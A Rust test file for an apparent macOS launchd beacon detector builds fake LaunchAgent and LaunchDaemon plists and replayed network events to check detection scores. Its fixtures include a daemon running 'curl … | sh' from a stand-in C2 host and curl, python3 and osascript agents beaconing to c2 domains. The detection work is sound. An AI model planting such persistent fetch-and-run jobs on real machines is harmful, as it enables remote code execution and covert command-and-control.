//! Issue 9's golden replays: launchd jobs judged by the job, not by who signed the binary.
//! Each case is a host under `--root` (plists written by the test, XML and binary) and a replay
//! of process, flow and signing observations. Positives: curl, python3 and osascript run by a
//! user's LaunchAgent; a `sh -c 'curl … | sh'` daemon whose curl children carry no label of
//! their own; an ad-hoc helper registered through SMAppService inside an app bundle. Benign
//! lookalikes: Apple's own timer, a Developer ID updater in /Library to a destination it has
//! used for 40 days, and a user's interactive curl typed in a Terminal.

use std::fmt::Write as _;
use std::path::Path;

use launchwatch_e2e::{command, json_rows};
use serde_json::{Map, Value};

const DAY: f64 = 1_733_011_200.0; // 2024-12-01 00:00 UTC
const NOW: f64 = DAY + 86_400.0;

fn write_plist(root: &Path, host_path: &str, dict: Vec<(&str, plist::Value)>, binary: bool) {
    let path = root.join(host_path.trim_start_matches('/'));
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let mut d = plist::Dictionary::new();
    for (k, v) in dict {
        d.insert(k.to_string(), v);
    }
    let v = plist::Value::Dictionary(d);
    if binary {
        v.to_file_binary(&path).unwrap();
    } else {
        v.to_file_xml(&path).unwrap();
    }
}

fn s(v: &str) -> plist::Value {
    plist::Value::String(v.into())
}

fn args(a: &[&str]) -> plist::Value {
    plist::Value::Array(a.iter().map(|x| s(x)).collect())
}

fn file(root: &Path, host_path: &str) {
    let p = root.join(host_path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, b"#!/bin/sh\n").unwrap();
}

/// Observations, built line by line.
#[derive(Default)]
struct Replay(String);

impl Replay {
    fn process(&mut self, pid: i64, start: f64, ppid: i64, path: &str, label: Option<&str>) {
        let label = label.map_or(String::new(), |l| format!(r#","launchd_label":"{l}""#));
        writeln!(
            self.0,
            r#"{{"kind":"process","ts":{},"pid":{pid},"start_time":{start},"ppid":{ppid},"uid":501,"path":"{path}","cpu_time":0.01{label}}}"#,
            start + 0.5
        )
        .unwrap();
    }
    fn flow(&mut self, pid: i64, start: f64, path: &str, name: &str, ip: &str) {
        writeln!(
            self.0,
            r#"{{"kind":"flow","start":{start},"end":{},"pid":{pid},"path":"{path}","protocol":"tcp","remote_address":"{ip}","remote_port":443,"remote_name":"{name}","bytes_sent":310,"bytes_received":1210,"state":"CLOSED"}}"#,
            start + 0.4
        )
        .unwrap();
    }
    fn signing(&mut self, path: &str, class: &str, identifier: &str, team: Option<&str>) {
        let team = team.map_or(String::new(), |t| format!(r#","team_id":"{t}""#));
        writeln!(
            self.0,
            r#"{{"kind":"signing","path":"{path}","signer_class":"{class}","status":"valid","identifier":"{identifier}","notarized":1{team}}}"#
        )
        .unwrap();
    }
}

/// A deterministic jitter in [-1, 1) per (case, beat).
fn wobble(case: u64, i: u64) -> f64 {
    let mut z = case.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ i.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 31)).wrapping_mul(0x94d0_49bb_1331_11eb);
    ((z >> 11) as f64 / (1u64 << 53) as f64) * 2.0 - 1.0
}

/// A job whose main process is the program itself, started by launchd each beat.
#[allow(clippy::too_many_arguments)] // one job, every fact named at the call
fn timer_job(
    r: &mut Replay,
    case: u64,
    pid0: i64,
    program: &str,
    label: &str,
    period: f64,
    name: &str,
    ip: &str,
    jitter: f64,
) {
    let mut t = DAY + 120.0;
    let mut i = 0;
    while t < NOW - 60.0 {
        let pid = pid0 + i as i64;
        r.process(pid, t, 1, program, Some(label));
        r.flow(pid, t + 0.2, program, name, ip);
        t += period * (1.0 + jitter * wobble(case, i));
        i += 1;
    }
}

fn build(root: &Path) -> String {
    let mut r = Replay::default();
    r.process(1, DAY - 86_400.0 * 60.0, 0, "/sbin/launchd", None);
    for (p, id) in [
        ("/usr/bin/curl", "com.apple.curl"),
        ("/usr/bin/python3", "com.apple.python3"),
        ("/usr/bin/osascript", "com.apple.osascript"),
        ("/bin/sh", "com.apple.sh"),
        ("/bin/zsh", "com.apple.zsh"),
        ("/usr/libexec/timed-sync", "com.apple.timed-sync"),
    ] {
        r.signing(p, "apple", id, None);
    }

    // 1. curl every 5 minutes from a user's LaunchAgent (XML plist).
    write_plist(
        root,
        "/Users/alice/Library/LaunchAgents/com.acme.sync.plist",
        vec![
            ("Label", s("com.acme.sync")),
            (
                "ProgramArguments",
                args(&[
                    "/usr/bin/curl",
                    "-s",
                    "https://sync.c2-one.example/beat?id=8f14e45fceea167a5a36dedd4bea2543",
                ]),
            ),
            ("StartInterval", plist::Value::Integer(300.into())),
        ],
        false,
    );
    timer_job(
        &mut r,
        1,
        10_000,
        "/usr/bin/curl",
        "com.acme.sync",
        300.0,
        "sync.c2-one.example",
        "198.51.100.11",
        0.05,
    );

    // 2. python3 kept alive by a user's agent (binary plist), one process beaconing every 2 min.
    write_plist(
        root,
        "/Users/alice/Library/LaunchAgents/com.acme.helper.plist",
        vec![
            ("Label", s("com.acme.helper")),
            (
                "ProgramArguments",
                args(&[
                    "/usr/bin/python3",
                    "/Users/alice/.local/share/helper/agent.py",
                ]),
            ),
            ("KeepAlive", plist::Value::Boolean(true)),
        ],
        true,
    );
    r.process(
        20_000,
        DAY + 10.0,
        1,
        "/usr/bin/python3",
        Some("com.acme.helper"),
    );
    let mut t = DAY + 60.0;
    let mut i = 0;
    while t < NOW - 60.0 {
        r.flow(
            20_000,
            t,
            "/usr/bin/python3",
            "api.c2-two.example",
            "198.51.100.22",
        );
        t += 120.0 * (1.0 + 0.1 * wobble(2, i));
        i += 1;
    }

    // 3. osascript every 10 minutes from a user's agent.
    write_plist(
        root,
        "/Users/alice/Library/LaunchAgents/com.acme.notes.plist",
        vec![
            ("Label", s("com.acme.notes")),
            (
                "ProgramArguments",
                args(&[
                    "/usr/bin/osascript",
                    "/Users/alice/Library/Scripts/notes.scpt",
                ]),
            ),
            ("StartInterval", plist::Value::Integer(600.into())),
        ],
        false,
    );
    timer_job(
        &mut r,
        3,
        30_000,
        "/usr/bin/osascript",
        "com.acme.notes",
        600.0,
        "c.c2-three.example",
        "198.51.100.33",
        0.02,
    );

    // 4. A third-party daemon: sh -c 'curl … | sh'. launchctl names only the sh; curl is its
    //    child and carries no label of its own.
    write_plist(
        root,
        "/Library/LaunchDaemons/com.vendorx.refresh.plist",
        vec![
            ("Label", s("com.vendorx.refresh")),
            (
                "ProgramArguments",
                args(&["/bin/sh", "-c", "curl -s https://dl.c2-four.example/x | sh"]),
            ),
            ("StartInterval", plist::Value::Integer(900.into())),
        ],
        true,
    );
    let mut t = DAY + 300.0;
    let mut i = 0;
    while t < NOW - 60.0 {
        let sh = 40_000 + 2 * i;
        r.process(sh, t, 1, "/bin/sh", Some("com.vendorx.refresh"));
        r.process(sh + 1, t + 0.05, sh, "/usr/bin/curl", None);
        r.flow(
            sh + 1,
            t + 0.1,
            "/usr/bin/curl",
            "dl.c2-four.example",
            "198.51.100.44",
        );
        if i == 0 {
            // The child's first payload: a TLS record header, then random bytes.
            writeln!(
                r.0,
                r#"{{"kind":"payload","ts":{},"pid":{},"path":"/usr/bin/curl","protocol":"tcp","remote_address":"198.51.100.44","remote_port":443,"direction":"out","first_bytes":"FgMBAAEAAQ=="}}"#,
                t + 0.15,
                sh + 1
            )
            .unwrap();
        }
        t += 900.0;
        i += 1;
    }

    // 5. An ad-hoc helper registered through SMAppService inside an app bundle.
    let app = "/Applications/Helper.app";
    write_plist(
        root,
        &format!("{app}/Contents/Library/LaunchAgents/com.helper.agent.plist"),
        vec![
            ("Label", s("com.helper.agent")),
            ("BundleProgram", s("Contents/MacOS/helperd")),
            ("KeepAlive", plist::Value::Boolean(true)),
        ],
        false,
    );
    let helper = format!("{app}/Contents/MacOS/helperd");
    file(root, &helper);
    r.signing(&helper, "adhoc", "helperd", None);
    r.process(50_000, DAY + 5.0, 1, &helper, Some("com.helper.agent"));
    let mut t = DAY + 30.0;
    let mut i = 0;
    while t < NOW - 60.0 {
        r.flow(50_000, t, &helper, "t.c2-five.example", "198.51.100.55");
        t += 60.0 * (1.0 + 0.2 * wobble(5, i));
        i += 1;
    }

    // Benign 1: Apple's own hourly timer.
    write_plist(
        root,
        "/System/Library/LaunchDaemons/com.apple.timed-sync.plist",
        vec![
            ("Label", s("com.apple.timed-sync")),
            ("Program", s("/usr/libexec/timed-sync")),
            ("StartInterval", plist::Value::Integer(3600.into())),
        ],
        true,
    );
    timer_job(
        &mut r,
        6,
        60_000,
        "/usr/libexec/timed-sync",
        "com.apple.timed-sync",
        3600.0,
        "sync.apple.example",
        "17.0.0.9",
        0.0,
    );

    // Benign 2: a Developer ID updater in /Library, hourly, to a destination used for 40 days.
    let updater = "/Library/Application Support/Vendor/updater";
    write_plist(
        root,
        "/Library/LaunchDaemons/com.vendor.updater.plist",
        vec![
            ("Label", s("com.vendor.updater")),
            ("Program", s(updater)),
            ("StartInterval", plist::Value::Integer(3600.into())),
        ],
        false,
    );
    file(root, updater);
    r.signing(
        updater,
        "developer_id",
        "com.vendor.updater",
        Some("VENDOR1234"),
    );
    for d in (2..=40).rev() {
        r.flow(
            70_000 + d,
            DAY - 86_400.0 * d as f64,
            updater,
            "updates.vendor.example",
            "203.0.113.70",
        );
    }
    timer_job(
        &mut r,
        7,
        71_000,
        updater,
        "com.vendor.updater",
        3600.0,
        "updates.vendor.example",
        "203.0.113.70",
        0.0,
    );

    // Benign 3: a user typing curl in a Terminal now and then.
    r.process(
        80_000,
        DAY + 1.0,
        1,
        "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
        Some("application.com.apple.Terminal.12345.67890"),
    );
    r.process(80_001, DAY + 2.0, 80_000, "/bin/zsh", None);
    for (i, minute) in [37.0, 41.0, 95.0, 96.5, 210.0, 380.0, 382.0, 600.0, 777.0]
        .iter()
        .enumerate()
    {
        let pid = 80_100 + i as i64;
        let t = DAY + minute * 60.0;
        r.process(pid, t, 80_001, "/usr/bin/curl", None);
        r.flow(
            pid,
            t + 0.1,
            "/usr/bin/curl",
            "api.github.example",
            "140.82.112.5",
        );
    }
    // The Background Task Management registration of the helper (a keyed archive).
    let uid = |n: u64| plist::Value::Uid(plist::Uid::new(n));
    let mut item = plist::Dictionary::new();
    item.insert("identifier".into(), uid(2));
    item.insert("type".into(), plist::Value::Integer(0x8.into()));
    item.insert("disposition".into(), plist::Value::Integer(0x3.into()));
    item.insert("teamIdentifier".into(), uid(3));
    item.insert("developerName".into(), uid(4));
    let mut top = plist::Dictionary::new();
    top.insert(
        "$objects".into(),
        plist::Value::Array(vec![
            s("$null"),
            plist::Value::Dictionary(item),
            s("8.com.helper.agent"),
            s("HELPER1234"),
            s("Helper Corp"),
        ]),
    );
    let btm = root.join("private/var/db/com.apple.backgroundtaskmanagement");
    std::fs::create_dir_all(&btm).unwrap();
    plist::Value::Dictionary(top)
        .to_file_binary(btm.join("BackgroundItems-v9.btm"))
        .unwrap();
    r.0
}

fn beacons(dir: &Path) -> Vec<Map<String, Value>> {
    host_query(dir, "SELECT identity, launchd_label, label_source, job_class, signer_class, interpreter, raw_score, context, beacon_score, explained_by_launchd, remote FROM launchwatch_beacons")
}

/// One `query --json` over the test's host (its --root and replay, a private state dir).
fn host_query(dir: &Path, sql: &str) -> Vec<Map<String, Value>> {
    let out = command(dir)
        .args(["query", "--json", "--replay"])
        .arg(dir.join("host.jsonl"))
        .arg("--root")
        .arg(dir.join("root"))
        .args(["--now", &format!("{NOW}")])
        .arg(sql)
        .output()
        .unwrap();
    json_rows(&out)
}

fn row<'a>(rows: &'a [Map<String, Value>], remote: &str) -> &'a Map<String, Value> {
    rows.iter()
        .find(|r| r["remote"] == remote)
        .unwrap_or_else(|| panic!("no beacon row for {remote}: {rows:#?}"))
}

fn score(r: &Map<String, Value>) -> f64 {
    r["beacon_score"].as_str().unwrap().parse().unwrap()
}

#[test]
fn jobs_not_signers_decide_the_beacon_score() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    let replay = dir.path().join("host.jsonl");
    std::fs::write(&replay, build(&root)).unwrap();
    let rows = beacons(dir.path());

    for (remote, label, source, class) in [
        ("c2-one.example", "com.acme.sync", "replay", "user"),
        ("c2-two.example", "com.acme.helper", "replay", "user"),
        ("c2-three.example", "com.acme.notes", "replay", "user"),
        (
            "c2-four.example",
            "com.vendorx.refresh",
            "parent",
            "third_party",
        ),
        (
            "c2-five.example",
            "com.helper.agent",
            "replay",
            "app_bundle",
        ),
    ] {
        let r = row(&rows, remote);
        assert!(score(r) >= 0.7, "{remote}: {r:#?}");
        assert_eq!(r["launchd_label"], label, "{remote}");
        assert_eq!(r["label_source"], source, "{remote}");
        assert_eq!(r["job_class"], class, "{remote}");
    }
    // Interpreters and downloaders take the job as identity; Apple's signature earns nothing.
    let curl = row(&rows, "c2-one.example");
    assert_eq!(curl["interpreter"], "1");
    assert!(
        curl["identity"].as_str().unwrap().starts_with(
            "job:com.acme.sync /usr/bin/curl -s https://sync.c2-one.example/beat?id=<v>"
        ),
        "{curl:#?}"
    );
    let daemon = row(&rows, "c2-four.example");
    assert_eq!(
        daemon["identity"],
        "job:com.vendorx.refresh /bin/sh -c curl -s https://dl.c2-four.example/x | sh"
    );

    let apple = row(&rows, "apple.example");
    assert!(score(apple) < 0.7, "{apple:#?}");
    assert_eq!(apple["job_class"], "apple");
    let updater = row(&rows, "vendor.example");
    assert!(score(updater) < 0.7, "{updater:#?}");
    assert_eq!(
        (
            updater["job_class"].as_str(),
            updater["explained_by_launchd"].as_str()
        ),
        (Some("third_party"), Some("1"))
    );
    // The Terminal's curl is the user's, not a job's: no label, its own identity.
    let typed = row(&rows, "github.example");
    assert!(score(typed) < 0.7, "{typed:#?}");
    assert_eq!(typed["launchd_label"], "");
    assert_eq!(typed["job_class"], "none");
    assert_eq!(typed["identity"], "com.apple.curl");
}

#[test]
fn every_row_of_a_jobs_tree_carries_its_label() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    let replay = dir.path().join("host.jsonl");
    std::fs::write(&replay, build(&root)).unwrap();
    let rows = host_query(dir.path(), "SELECT DISTINCT path, launchd_label, label_source FROM launchwatch_sockets WHERE remote_address IN ('198.51.100.44', '140.82.112.5') ORDER BY remote_address");
    let got: Vec<(String, String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["path"].as_str().unwrap().into(),
                r["launchd_label"].as_str().unwrap().into(),
                r["label_source"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            ("/usr/bin/curl".to_string(), "".to_string(), "".to_string()),
            (
                "/usr/bin/curl".to_string(),
                "com.vendorx.refresh".to_string(),
                "parent".to_string()
            ),
        ]
    );
    // The child's payload row carries the job too.
    let payloads = host_query(dir.path(), "SELECT launchd_label, label_source FROM launchwatch_payloads WHERE remote_address = '198.51.100.44'");
    assert_eq!(payloads.len(), 1, "{payloads:#?}");
    assert_eq!(
        (
            payloads[0]["launchd_label"].as_str(),
            payloads[0]["label_source"].as_str()
        ),
        (Some("com.vendorx.refresh"), Some("parent"))
    );
    // launchwatch_launchd: the app bundle's job and its class.
    let jobs = host_query(
        dir.path(),
        "SELECT label, domain, job_class, masquerading, interpreter, program FROM launchwatch_launchd ORDER BY label",
    );
    let get = |l: &str| {
        jobs.iter()
            .find(|r| r["label"] == l)
            .unwrap_or_else(|| panic!("{l}: {jobs:#?}"))
    };
    assert_eq!(get("com.helper.agent")["domain"], "app_bundle");
    assert_eq!(
        get("com.helper.agent")["program"],
        "/Applications/Helper.app/Contents/MacOS/helperd"
    );
    assert_eq!(get("com.acme.sync")["job_class"], "user");
    assert_eq!(get("com.acme.sync")["interpreter"], "1");
    assert_eq!(get("com.vendor.updater")["job_class"], "third_party");
    assert_eq!(get("com.apple.timed-sync")["job_class"], "apple");
    assert_eq!(get("com.apple.timed-sync")["masquerading"], "0");
    let out = command(dir.path())
        .args(["query", "--json", "--root"])
        .arg(&root)
        .arg("SELECT label, btm_type, btm_disposition, team_id, developer_name FROM launchwatch_launchd WHERE domain = 'btm'")
        .output()
        .unwrap();
    let btm = json_rows(&out);
    assert_eq!(btm.len(), 1, "{btm:#?}");
    assert_eq!(
        (
            btm[0]["label"].as_str(),
            btm[0]["btm_type"].as_str(),
            btm[0]["btm_disposition"].as_str(),
            btm[0]["team_id"].as_str(),
            btm[0]["developer_name"].as_str()
        ),
        (
            Some("com.helper.agent"),
            Some("agent"),
            Some("enabled,allowed"),
            Some("HELPER1234"),
            Some("Helper Corp")
        )
    );
}
